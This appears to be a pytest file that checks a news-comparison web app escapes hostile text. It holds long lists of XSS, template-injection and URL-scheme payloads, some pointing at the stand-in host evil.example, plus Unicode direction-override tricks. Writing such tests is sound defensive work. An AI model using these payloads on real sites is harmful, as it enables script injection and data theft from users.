"""Pages that want to be obeyed: whatever they say, wherever they say it, stays words."""

from __future__ import annotations

from dataclasses import replace

import pytest
from fastapi.testclient import TestClient

from dateline.model import Report, Story
from dateline.serve.links import address, claim_link, report_link, story_link
from tests.serve import sample
from tests.serve.desk import Seen, desk

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=https://evil.example><input name=a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
)
QUOTES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)',
    '" style="position:fixed;inset:0',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}",
    "${7*7}",
    "<%= 7 * 7 %>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/",
    "\\\\evil.example\\x",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
)
TURNS = (
    "safe\u202etxt.exe",
    "\u2066hidden\u2069",
    "\u202aa\u202bb\u202dc\u202e",
    "a\u0000b\u0008c\u001bd",
    "\ufeffRiver\u200bbursts\u200dits\u2060banks",
    "\u2028\u2029",
    "e\u0301" * 40 + "\u0337" * 200,
    "\ud83d half a character",
)
HOSTILE = (*SCRIPTS, *QUOTES, *ADDRESSES, *TURNS)
OURS = frozenset(
    "html head meta title link script body a header nav form label input button main article div p"
    " h1 h2 h3 h4 ol ul li span b small cite em section table thead tbody tr th td dl dt dd i"
    " fieldset legend details summary aside footer blockquote mark select option datalist figure"
    " figcaption svg desc g line path circle text code".split()
)
TURNING = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\0\x08\x1b")


def spoiled(hostile: str) -> Story:
    """Return the sample with hostile words wherever a page can put its own."""
    one, other = sample.courier(), sample.ledger()
    one, other = _spoiled(one, hostile), _spoiled(other, hostile)
    story = sample.story(one, other)
    points = tuple(replace(point, text=hostile) for point in story.brief.points)
    claims = tuple(
        replace(
            claim,
            gist=hostile,
            origins=replace(claim.origins, named=(hostile,)),
            differences=tuple(
                replace(d, values=tuple(replace(v, value=hostile) for v in d.values))
                for d in claim.differences
            ),
        )
        for claim in story.claims
    )
    figures = tuple(
        replace(
            series,
            of_what=hostile,
            series=tuple(replace(reading, claimed_by=hostile) for reading in series.series),
        )
        for series in story.brief.figures
    )
    brief = replace(story.brief, headline=hostile, points=points, figures=figures)
    return replace(story, headline=hostile, brief=brief, claims=claims)


def _spoiled(report: Report, hostile: str) -> Report:
    """Return a report whose page says hostile words in its text and of itself."""
    page = replace(report.page, path=hostile, text=report.text + "\n" + hostile)
    about = replace(
        report.metadata,
        title=hostile,
        outlet=hostile,
        byline=(hostile,),
        section=hostile,
        place=hostile,
        language=hostile,
        url=hostile,
    )
    chains = tuple(replace(c, name=hostile, title=hostile) for c in report.chains)
    places = tuple(replace(p, name=hostile) for p in report.places)
    names = tuple(replace(n, name=hostile) for n in report.names)
    credits = tuple(replace(c, agency=hostile) for c in report.credits)
    events = tuple(
        replace(e, actors=tuple(replace(a, name=hostile) for a in e.actors)) for e in report.events
    )
    return replace(
        report,
        page=page,
        metadata=about,
        chains=chains,
        places=places,
        names=names,
        credits=credits,
        events=events,
    )


def addresses(story: Story) -> list[str]:
    """Return the pages that show a story."""
    return [
        "/",
        "/claims",
        "/search?text=flood",
        story_link(story.id),
        address("stories", story.id, left=story.reports[0].id, right=story.reports[1].id),
        "/cases",
        *(report_link(report.id).partition("#")[0] for report in story.reports),
        *(claim_link(story.id, claim.id) for claim in story.claims),
        "/place?at=-19.840,34.840",
    ]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_a_page_says_is_never_obeyed(hostile: str) -> None:
    story = spoiled(hostile)
    with desk(story, case=f"Floods {hostile}"[:200]) as client:
        (case,) = {link for link in Seen(client.get("/cases").text).links if "/feed" in link}
        for page in (*addresses(story), case.removesuffix("/feed")):
            answer = client.get(page)
            assert answer.status_code == 200, page
            holds_nothing_of_its_own(answer.text, page)
        holds_nothing_of_its_own(asked(client, hostile), "/")


def asked(client: TestClient, hostile: str) -> str:
    """Return the board and other pages of somebody who was sent there with hostile words."""
    words = hostile.encode("utf-8", "replace").decode()
    page = ""
    for path, name in (("/", "text"), ("/", "outlet"), ("/search", "text"), ("/actor", "name")):
        answer = client.get(path, params={name: words})
        assert answer.status_code in {200, 404, 422}
        holds_nothing_of_its_own(answer.text, path)
        page = answer.text
    return page


def holds_nothing_of_its_own(page: str, address: str) -> None:
    """Assert that each element, attribute and link of a page is of our own making."""
    read = Seen(page)
    assert (read.crossed, read.open) == ([], []), address
    assert read.tags <= OURS, address
    assert not [name for name in read.attributes if name.startswith("on") or name == "style"]
    assert all(file.startswith("/static/") for file in read.loaded)
    for link in read.links:
        own = link.startswith(("/", "#")) and not link.startswith(("//", "/\\"))
        assert own or link.startswith(("https://", "http://")), (address, link)
    assert not TURNING & set(page), address


def test_there_are_many_of_them() -> None:
    assert len(set(HOSTILE)) >= 60
